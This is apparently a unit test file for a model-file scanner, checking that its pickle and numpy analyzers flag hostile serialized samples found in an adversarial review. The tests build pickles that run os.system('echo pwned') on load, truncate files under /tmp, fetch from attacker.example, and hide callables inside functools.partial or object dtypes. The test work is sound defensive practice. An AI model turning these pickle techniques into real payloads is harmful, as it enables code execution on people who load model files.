"""Regressions from the internal adversarial review of the pickle and numpy analyzers.

One test per finding of the review (samples built here, payloads inert: ``echo pwned``, paths
under /tmp). The scanner only reads bytes; nothing is unpickled.
"""

from __future__ import annotations

import functools
import pickle
import struct

import numpy as np

from modelcustoms.core import Severity
from modelcustoms.engines.scan import ScanOptions, ScanResult
from modelcustoms.engines.scan.numpy import NumpyAnalyzer
from modelcustoms.engines.scan.pickle import PickleAnalyzer
from tests.unit.engines.scan.test_pickle import ScanFiles, call, glob, sbu


def _scan(scan_files: ScanFiles, name: str, data: bytes, *, numpy: bool = False) -> ScanResult:
    analyzers = [PickleAnalyzer(), NumpyAnalyzer()] if numpy else [PickleAnalyzer()]
    return scan_files({name: data}, analyzers=analyzers, options=ScanOptions(jobs=1))


def _at_least(result: ScanResult, severity: Severity) -> dict[str, Severity]:
    """Excerpt (or rule id) -> severity of every finding at ``severity`` or above."""
    return {
        (f.evidence[0].excerpt if f.evidence else None) or f.rule_id: f.severity
        for f in result.run.findings
        if f.severity.rank >= severity.rank
    }


def _proto2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def _tuple(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def test_rebuild_from_type_v2_calls_its_first_argument(scan_files: ScanFiles) -> None:
    # Review F1: torch._tensor._rebuild_from_type_v2(func, type, args, state) runs
    # func(*args); an unknown func passed there is called, not merely referenced.
    for callee, args in (
        (("_testcapi", "run_in_subinterp"), (sbu("import os; os.system('echo pwned')"),)),
        (("_pyio", "open"), (sbu("/tmp/pwned_truncated"), sbu("w"))),
    ):
        body = call(
            glob("torch._tensor", "_rebuild_from_type_v2"),
            glob(*callee),
            glob("torch", "Tensor"),
            _tuple(*args),
            b"}",
        )
        found = _at_least(_scan(scan_files, "model.pkl", _proto2(body)), Severity.HIGH)
        assert ".".join(callee) in found, found


def test_numpy_object_dtype_spellings(scan_files: ScanFiles) -> None:
    # Review F2: np.dtype() accepts 'object', ('O', (1,)), [('a', 'object')] and nested
    # fields; numpy's reader says hasobject and np.load(allow_pickle=True) unpickles the data.
    # An unrecognised descr still hands the data region to the engine.
    payload = pickle.dumps(_Hostile(), protocol=2)
    for descr in ("object", ("O", (1,)), [("a", "object")], [("a", [("b", "O")])], {"x": 1}):
        header = repr({"descr": descr, "fortran_order": False, "shape": (1,)}).encode() + b"\n"
        data = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload
        found = _at_least(_scan(scan_files, "a.npy", data, numpy=True), Severity.CRITICAL)
        assert "posix.system" in found or "os.system" in found, (descr, found)
    assert np.dtype([("a", [("b", "O")])]).hasobject  # what numpy itself decides


def test_ml_library_io_classes_called_are_high(scan_files: ScanFiles) -> None:
    # Review F3: capitalised classes under allow-listed ML prefixes that do I/O when built.
    for module, name, arg in (
        ("pandas", "ExcelFile", "http://attacker.example/x.xlsx"),
        ("torch.utils.tensorboard", "SummaryWriter", "/tmp/pwned_dir"),
        ("sentence_transformers", "SentenceTransformer", "attacker/evil-model"),
        ("transformers", "AutoModel", "attacker/evil-model"),
    ):
        body = call(glob(module, name), sbu(arg))
        found = _at_least(_scan(scan_files, "model.pkl", _proto2(body)), Severity.HIGH)
        assert f"{module}.{name}" in found, found
    # Referenced without __init__ (torch.save(model) uses NEWOBJ): not high.
    body = glob("sentence_transformers", "SentenceTransformer") + b")\x81"
    assert not _at_least(_scan(scan_files, "model.pkl", _proto2(body)), Severity.HIGH)


def test_stdlib_file_io_classes_are_dangerous(scan_files: ScanFiles) -> None:
    # Review F4: _pyio.FileIO('/tmp/pwned', 'w') truncates a file on load; it was medium.
    for module, name in (
        ("_pyio", "FileIO"),
        ("gzip", "GzipFile"),
        ("bz2", "BZ2File"),
        ("lzma", "LZMAFile"),
        ("sqlite3", "connect"),
        ("_winapi", "CreateProcess"),
    ):
        body = call(glob(module, name), sbu("/tmp/pwned"), sbu("w"))
        found = _at_least(_scan(scan_files, "model.pkl", _proto2(body)), Severity.CRITICAL)
        assert f"{module}.{name}" in found, found


def test_functools_partial_hparams_are_not_high(scan_files: ScanFiles) -> None:
    # Review F5 (false positive): Lightning/Hydra hparams hold functools.partial objects.
    benign = pickle.dumps(
        {"hparams": {"sched": functools.partial(np.clip, a_min=0.0, a_max=1.0)}}, protocol=4
    )
    assert not _at_least(_scan(scan_files, "hparams.pkl", benign), Severity.HIGH)
    # A partial of a dangerous callable, then called via REDUCE, stays caught.
    hostile = _proto2(call(call(glob("functools", "partial"), glob("os", "system")), sbu("echo")))
    found = _at_least(_scan(scan_files, "model.pkl", hostile), Severity.HIGH)
    assert "os.system" in found, found
    # ...and an unknown callable wrapped in a partial is judged as called when the partial is.
    hidden = call(call(glob("functools", "partial"), glob("_testcapi", "run_in_subinterp")), b"N")
    found = _at_least(_scan(scan_files, "model.pkl", _proto2(hidden)), Severity.HIGH)
    assert "_testcapi.run_in_subinterp" in found, found


class _Hostile:
    def __reduce__(self) -> tuple[object, ...]:
        import os

        return (os.system, ("echo pwned",))
